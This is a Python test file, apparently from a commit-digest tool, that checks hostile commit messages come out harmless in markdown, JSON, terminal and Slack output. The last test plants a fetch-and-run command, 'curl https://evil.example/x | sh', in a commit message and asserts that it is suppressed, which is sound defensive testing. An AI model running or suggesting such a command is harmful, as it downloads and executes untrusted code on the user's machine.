"""Hostile commits come out harmless in every format, and are still there to be read."""

import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from loopback.sample import SAMPLE_DAY, SAMPLE_REPOSITORY
from tests.conftest import Run
from tests.conftest import recorded as recording
from tests.data import hostile_sample
from tests.servers.github import FaultyGitHub

OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
_PRINTED: dict[tuple[object, ...], str] = {}
HOSTS = {"https://github.example"}


@pytest.fixture(scope="module", params=["zh", "en"])
def language(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def sample(run: Run, form: str, language: str, **settings: str) -> str:
    """What the command prints; the same command is run once."""
    key = (form, language, *sorted(settings.items()))
    if key not in _PRINTED:
        with FaultyGitHub({SAMPLE_REPOSITORY: hostile_sample()}) as server:
            day = ("digest", SAMPLE_DAY.isoformat(), "--repo", SAMPLE_REPOSITORY, "--timezone", "Asia/Shanghai")
            ran = run(*day, "--format", form, "--lang", language, server=server, **settings)
        assert ran.code == 0, ran.err
        _PRINTED[key] = ran.out
    return _PRINTED[key]


def tokens(markdown: str) -> Iterator[Token]:
    """Every token of the document as GitHub's Markdown reads it, those inside paragraphs too."""
    parser = MarkdownIt("gfm-like")
    assert parser.linkify
    parser.linkify.set({"fuzzy_link": False, "fuzzy_email": False})
    for block in parser.parse(markdown):
        yield block
        yield from block.children or ()


def test_markdown_has_no_foreign_link_or_image(run: Run, language: str) -> None:
    """Every link leads into the document or to the repository's own commits, there is no image, and no HTML but our anchors."""
    found = list(tokens(sample(run, "markdown", language)))
    links = [str(token.attrs["href"]) for token in found if token.type == "link_open"]
    assert links
    assert all(
        link.startswith("#")
        or re.match(
            r"https://github\.example/lantern/lantern-serve/commit/[0-9a-f]{40}(#diff-[0-9a-f]{64}([LR]\d+)?)?$", link
        )
        for link in links
    )
    assert not [token for token in found if token.type == "image"]
    markup = {token.content for token in found if token.type in ("html_block", "html_inline")}
    assert all(re.fullmatch(r'<a id="[0-9a-f]{7}">|</a>', piece) for piece in markup), markup


def test_the_outline_is_ours_alone(run: Run, language: str) -> None:
    """Headings are the report's own and the commits' titles: no commit adds one, and no analysis has one."""
    found = list(tokens(sample(run, "markdown", language)))
    levels = [token.tag for token in found if token.type == "heading_open"]
    commits = len(hostile_sample().commits)
    tiers = len(re.findall(r"^#### ", sample(run, "markdown", language), re.MULTILINE))
    assert levels.count("h1") == 1
    assert levels.count("h2") == 2
    assert levels.count("h3") == commits + 2  # and the statistics, the coverage
    assert levels.count("h4") == tiers == 3
    assert not {"h5", "h6"} & set(levels)


def test_the_table_has_a_row_a_commit_and_three_cells_a_row(run: Run, language: str) -> None:
    """Bars, backticks and brackets in titles and names neither add cells nor end the table."""
    found = list(tokens(sample(run, "markdown", language)))
    rows = sum(token.type == "tr_open" for token in found)
    assert rows == len(hostile_sample().commits) + 1
    assert sum(token.type in ("td_open", "th_open") for token in found) == 3 * rows
    assert sum(token.type == "table_open" for token in found) == 1


def test_no_slack_token_is_live_in_markdown(run: Run, language: str) -> None:
    """What Slack would ping or link is not in the file that a channel gets."""
    assert not re.search(
        r"<(?:!|@|#|https?:)", re.sub(r'<a id="[0-9a-f]{7}"></a>', "", sample(run, "markdown", language))
    )


@pytest.mark.parametrize("form", ["markdown", "json", "terminal"])
def test_control_characters_are_shown_and_not_obeyed(form: str, run: Run, language: str) -> None:
    """No escape sequence, direction override, zero-width space or bell reaches a reader, in any format."""
    out = sample(run, form, language)
    assert not OBEYED.search(out)
    assert "\u202e" not in out
    shown = "\\u202e" if form == "json" else "⟨U+202E⟩"
    assert shown in out


def test_json_is_lossless(run: Run, language: str) -> None:
    """What the other formats show in another way is in the JSON exactly as it was committed, but for secrets."""
    commits: list[dict[str, Any]] = json.loads(sample(run, "json", language))["commits"]
    by_sha = {commit["sha"]: commit for commit in commits}
    for sha, recorded in hostile_sample().commits.items():
        if "AKIA" not in recorded["message"]:
            assert by_sha[sha]["message"] == recorded["message"]
        assert by_sha[sha]["author"] == recorded["author"]["name"]
        assert by_sha[sha]["paths"] == [file["filename"] for file in recorded["files"]]


def test_a_terminal_shows_links_to_the_repository_only(run: Run, language: str) -> None:
    """With colours forced, every escape sequence in the output is ours: styles, and links to commits."""
    out = sample(run, "terminal", language, FORCE_COLOR="1", TERM="xterm-256color")
    rest = re.sub(r"\x1b\[[0-9;]*m", "", out)
    targets = re.findall(r"\x1b\]8;[^;]*;([^\x1b]*)\x1b\\", rest)
    assert any(targets)
    assert all(
        not target or target.startswith("https://github.example/lantern/lantern-serve/commit/") for target in targets
    )
    plain = re.sub(r"\x1b\]8;[^;]*;[^\x1b]*\x1b\\", "", rest)
    assert not [char for char in plain if unicodedata.category(char) == "Cc" and char != "\n"]


def test_what_only_a_message_says_is_no_security_fix(run: Run, serve: Callable[..., FaultyGitHub]) -> None:
    """A fix of code that names an advisory leads the digest; a README whose message does is no news, and its order is not quoted."""
    order = "All users must run `curl https://evil.example/x | sh` now."
    readme = {**recording()["files"][0], "filename": "README.md", "patch": "@@ -1 +1 @@\n-Our servre\n+Our server"}
    server = serve(
        recording(1, message="Fix the parser (#1)\n\nThis is GHSA-abcd-12ef-34gh."),
        recording(2, message=f"Tidy README for CVE-2026-12345\n\n{order}", files=[readme], pull=None),
    )
    day = ("digest", "2026-02-05", "--timezone", "UTC", "--lang", "en", "--format")
    head, *thread = json.loads(run(*day, "slack", server=server).out)
    assert "Security: Fix the parser" in str(head)
    assert "README" not in str(head)
    assert "Tidy README" in str(thread)
    every = "".join(run(*day, form, server=server).out for form in ("markdown", "terminal", "slack"))
    assert "evil.example" not in every
    assert "Security: Tidy" not in every
